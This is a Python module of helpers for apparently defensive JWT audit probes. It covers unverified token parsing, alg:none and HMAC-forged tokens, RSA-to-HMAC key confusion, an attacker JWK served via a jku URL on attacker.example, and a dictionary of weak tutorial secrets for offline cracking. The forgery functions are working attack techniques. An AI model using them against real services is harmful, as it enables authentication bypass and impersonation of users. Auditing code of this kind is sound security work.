"""Building blocks of the JWT probes: decoding without verifying, forging, the attacker's key.

Kept apart from the probes so tests (and curious readers) can use the same forgeries.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import hmac
import json
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

#: Where the jku probe says the attacker's key set lives. ``.example`` never resolves
#: (RFC 2606), so a real app that fetches it fails; the tests' vulnerable app reads it
#: from ``ATTACKER_SITE`` instead, as if the attacker's server had answered.
ATTACKER_JKU = "https://attacker.example/.well-known/jwks.json"
#: What the attacker's server would serve, by URL.
ATTACKER_SITE: dict[str, dict[str, Any]] = {}

_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


@dataclass(frozen=True)
class Jwt:
    """A JWS compact token split into its parts, decoded but NOT verified."""

    header: dict[str, Any]
    claims: dict[str, Any]
    signing_input: bytes
    signature: bytes

    @property
    def algorithm(self) -> str:
        return str(self.header.get("alg", ""))


def parse(token: str | None) -> Jwt | None:
    """The token's parts, or None when it is not a JWT (an opaque token, a session id)."""
    if not token or token.count(".") != 2:
        return None
    head, body, signature = token.split(".")
    try:
        header = json.loads(b64url_decode(head))
        claims = json.loads(b64url_decode(body))
        raw_signature = b64url_decode(signature)
    except ValueError:
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return Jwt(header, claims, f"{head}.{body}".encode("ascii"), raw_signature)


def _encode(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    def part(value: Mapping[str, Any]) -> str:
        return b64url(json.dumps(value, separators=(",", ":")).encode())

    return f"{part(header)}.{part(claims)}"


def unsigned(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    """``alg: none``: header and claims, an empty signature."""
    return _encode(header, claims) + "."


def hmac_signed(
    header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes, alg: str = "HS256"
) -> str:
    """HMAC-sign with any bytes as the key (PyJWT refuses PEM keys here, attackers do not)."""
    signing_input = _encode({**header, "alg": alg}, claims)
    digest = hmac.new(key, signing_input.encode("ascii"), _HMAC[alg]).digest()
    return f"{signing_input}.{b64url(digest)}"


def hmac_matches(token: Jwt, key: bytes) -> bool:
    """True if ``key`` produced the token's HMAC signature (the offline dictionary attack)."""
    digest_of = _HMAC.get(token.algorithm)
    if digest_of is None:
        return False
    expected = hmac.new(key, token.signing_input, digest_of).digest()
    return hmac.compare_digest(expected, token.signature)


@functools.cache
def attacker_key() -> rsa.RSAPrivateKey:
    """The audit's own RSA key: whatever it signs, the app must not trust."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def attacker_jwk(kid: str = "audit-attacker") -> dict[str, Any]:
    numbers = attacker_key().public_key().public_numbers()

    def integer(value: int) -> str:
        return b64url(value.to_bytes((value.bit_length() + 7) // 8, "big"))

    return {"kty": "RSA", "kid": kid, "use": "sig", "alg": "RS256", "n": integer(numbers.n), "e": integer(numbers.e)}


def rsa_signed(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    """RS256-sign with the attacker's key."""
    signing_input = _encode({**header, "alg": "RS256"}, claims)
    signature = attacker_key().sign(signing_input.encode("ascii"), padding.PKCS1v15(), hashes.SHA256())
    return f"{signing_input}.{b64url(signature)}"


def public_pem_variants(jwk: Mapping[str, Any]) -> list[bytes]:
    """The forms an RSA public key takes as bytes, as an HS256 secret would be read from it."""
    n = int.from_bytes(b64url_decode(str(jwk["n"])), "big")
    e = int.from_bytes(b64url_decode(str(jwk["e"])), "big")
    public = rsa.RSAPublicNumbers(e, n).public_key()
    spki = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    pkcs1 = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
    return [spki, spki.rstrip(b"\n"), pkcs1]


#: HS256 secrets copied from tutorials, docs and samples, with where they come from. Any
#: token signed with one of them can be forged by anyone who has read the same page.
WEAK_SECRETS: dict[str, str] = {
    "secret": "the word 'secret'",
    "your-secret-key": "a common tutorial placeholder",
    "your_secret_key": "a common tutorial placeholder",
    "your-256-bit-secret": "jwt.io's default example key",
    "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7": "the FastAPI docs' example SECRET_KEY",
    "secretkey": "a common tutorial placeholder",
    "secret-key": "a common tutorial placeholder",
    "secret_key": "a common tutorial placeholder",
    "SECRET_KEY": "the variable name used as its own value",
    "mysecret": "a common tutorial placeholder",
    "mysecretkey": "a common tutorial placeholder",
    "my-secret-key": "a common tutorial placeholder",
    "my_secret_key": "a common tutorial placeholder",
    "supersecret": "a common tutorial placeholder",
    "super-secret-key": "a common tutorial placeholder",
    "supersecretkey": "a common tutorial placeholder",
    "changeme": "a default to change",
    "change-me": "a default to change",
    "changethis": "a default to change",
    "change-this-secret": "a default to change",
    "jwt-secret": "a common tutorial placeholder",
    "jwtsecret": "a common tutorial placeholder",
    "jwt_secret": "a common tutorial placeholder",
    "your-jwt-secret": "a common tutorial placeholder",
    "your_jwt_secret": "a common tutorial placeholder",
    "topsecret": "a common tutorial placeholder",
    "s3cr3t": "a common tutorial placeholder",
    "password": "the word 'password'",
    "123456": "a keyboard run",
    "key": "the word 'key'",
    "test": "the word 'test'",
    "dev": "the word 'dev'",
    "development": "the word 'development'",
    "default": "the word 'default'",
    "": "an empty key",
}
